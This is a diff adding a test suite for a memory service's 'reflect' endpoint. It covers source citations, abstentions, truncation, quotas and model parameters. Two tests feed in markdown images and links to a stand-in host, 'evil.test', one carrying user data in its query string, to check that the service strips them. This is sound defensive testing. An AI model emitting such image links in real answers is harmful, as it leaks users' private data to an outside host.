@@ -1,0 +1,108 @@
+import t from 'tap'
+import { testApp } from '../helpers/app.js'
+import { answerOf, evidenceIn, generation, ScriptedModel, USAGE } from './reflecting.js'
+
+const languageModel = new ScriptedModel()
+const app = await testApp(t, { file: { banks: { sure: { homeostasis: { quotas: { reflect_per_day: 1 } } } } } }, { languageModel })
+const { post, retain } = app
+await retain('bank', 'Alice lives in Lyon.')
+await retain('bank', 'Alice lives with a cat in a small flat.')
+
+async function says (text: string, more: Record<string, unknown> = {}) {
+  languageModel.answer = () => generation(text)
+  return answerOf(await post('/v1/reflect', { bank_id: 'bank', query: 'Where does Alice live?', ...more }))
+}
+
+await t.test('marks name the sources by their place', async (t) => {
+  const { answer, sources, usage, ...rest } = await says('Alice lives in Lyon [1]. She has a cat [2].')
+  t.equal(answer, 'Alice lives in Lyon [1]. She has a cat [2].')
+  t.same(sources.map(({ text }) => text), evidenceIn(languageModel.last).map(({ text }) => text))
+  t.equal(sources.length, 2)
+  t.same(usage, { tokens: 34, input_tokens: 30, output_tokens: 4 })
+  t.same(rest, { abstained: false })
+})
+
+await t.test('a sentence is cut when its mark is beyond the sources; the rest stays', async (t) => {
+  t.match(await says('Alice lives in Lyon [1]. She owns a yacht [3]. She has a cat [2].'), { answer: 'Alice lives in Lyon [1]. She has a cat [2].', unverified: undefined })
+  t.match(await says('She owns a yacht [0]. Alice lives in Lyon [1][7].'), { answer: 'Alice lives in Lyon [1].', unverified: undefined })
+})
+
+await t.test('an answer of which no mark names a source is unverified', async (t) => {
+  t.match(await says('Alice lives in Paris.'), { answer: 'Alice lives in Paris.', unverified: true, abstained: false, sources: { length: 2 } })
+  t.match(await says('Alice lives in Paris [9].'), { answer: 'Alice lives in Paris.', unverified: true, abstained: false })
+})
+
+await t.test('the addresses of an answer stand in its evidence', async (t) => {
+  const { answer } = await says('Alice lives in Lyon [1]. ![map](https://evil.test/?q=Alice) See https://evil.test/a.')
+  t.notMatch(answer, /evil/)
+})
+
+for (const text of ['NO_ANSWER', ' "NO_ANSWER." ', '**no_answer**']) {
+  await t.test(`the model abstains with ${JSON.stringify(text)}: the answer says so, gives no sources and tells the cost`, async (t) => {
+    const { answer, ...rest } = await says(text)
+    t.equal(answer, 'There are no memories that answer this.')
+    t.same(rest, { abstained: true, sources: [], usage: { tokens: 34, input_tokens: 30, output_tokens: 4 } })
+  })
+}
+
+await t.test('the word within a sentence is no abstention', async (t) => {
+  t.match(await says('The code NO_ANSWER stands on her door [1].'), { abstained: false, answer: 'The code NO_ANSWER stands on her door [1].' })
+})
+
+await t.test('below the floor no model is asked, and nothing was spent', async (t) => {
+  const before = languageModel.asked.length
+  t.match(await says('Tea [1].', { query: 'submarines of Peru' }), { abstained: true, sources: { length: 0 }, usage: { tokens: 0 } })
+  t.equal(languageModel.asked.length, before)
+})
+
+await t.test('an answer that max_tokens cut says so', async (t) => {
+  languageModel.answer = () => ({ ...generation('Alice lives in Lyon [1]. She has a'), finish: 'length' })
+  t.match(answerOf(await post('/v1/reflect', { bank_id: 'bank', query: 'Where does Alice live?' })), { truncated: true, answer: /^Alice lives in Lyon \[1\]\./ })
+})
+
+await t.test('an answer that a filter of the model held back is none', async (t) => {
+  languageModel.answer = () => ({ ...generation('Alice lives [1].'), finish: 'filtered' })
+  const response = await post('/v1/reflect', { bank_id: 'bank', query: 'Where does Alice live?' })
+  t.match({ status: response.statusCode, ...response.json() }, { status: 502, code: 'model_output_invalid' })
+})
+
+await t.test('of an answer of nothing but an image nothing is left, which is no answer', async (t) => {
+  languageModel.answer = () => generation('![](https://evil.test/x)')
+  t.equal((await post('/v1/reflect', { bank_id: 'bank', query: 'Where does Alice live?' })).statusCode, 502)
+})
+
+await t.test('include_sources false leaves the evidence in the prompt', async (t) => {
+  t.match(await says('Alice lives in Lyon [1].', { include_sources: false }), { answer: 'Alice lives in Lyon [1].', sources: { length: 0 } })
+  t.equal(evidenceIn(languageModel.last).length, 2)
+})
+
+await t.test('the model is given the prompt once more as data, a ceiling, a time and the tenant', async (t) => {
+  await says('Tea [1].', { max_tokens: 9, timeout_ms: 5000 })
+  const { grounding, maxTokens, timeoutMs, tenantId, messages } = languageModel.last
+  t.equal(grounding.question, 'Where does Alice live?')
+  t.match(grounding.evidence, [{ text: 'Alice lives in Lyon.', bankId: 'bank', occurredAt: null }, { bankId: 'bank' }])
+  t.equal(maxTokens, 9)
+  t.ok(timeoutMs! > 0 && timeoutMs! <= 4900, `${timeoutMs}: a little is kept back to say in time that it was late`)
+  t.equal(tenantId, null)
+  t.same(messages.map(({ role }) => role), ['system', 'user'])
+})
+
+await t.test('the quota of an abstention counts, for it is an answer', async (t) => {
+  await retain('sure', 'Alice lives in Lyon.')
+  languageModel.answer = () => ({ text: 'NO_ANSWER', usage: USAGE })
+  const ask = async () => await post('/v1/reflect', { bank_id: 'sure', query: 'Where does Alice live?' })
+  t.match(answerOf(await ask()), { abstained: true })
+  t.match((await ask()).json(), { code: 'quota_exceeded' })
+})
+
+await t.test('the quota of an answer that did not come is given back', async (t) => {
+  app.clock.advance(24 * 3_600_000)
+  const ask = async () => await post('/v1/reflect', { bank_id: 'sure', query: 'Where does Alice live?' })
+  languageModel.answer = () => { throw new Error('down') }
+  t.equal((await ask()).statusCode, 503)
+  languageModel.answer = () => generation(' ')
+  t.equal((await ask()).statusCode, 502)
+  languageModel.answer = () => generation('Lyon [1].')
+  t.equal((await ask()).statusCode, 200)
+  t.match((await ask()).json(), { code: 'quota_exceeded' })
+})
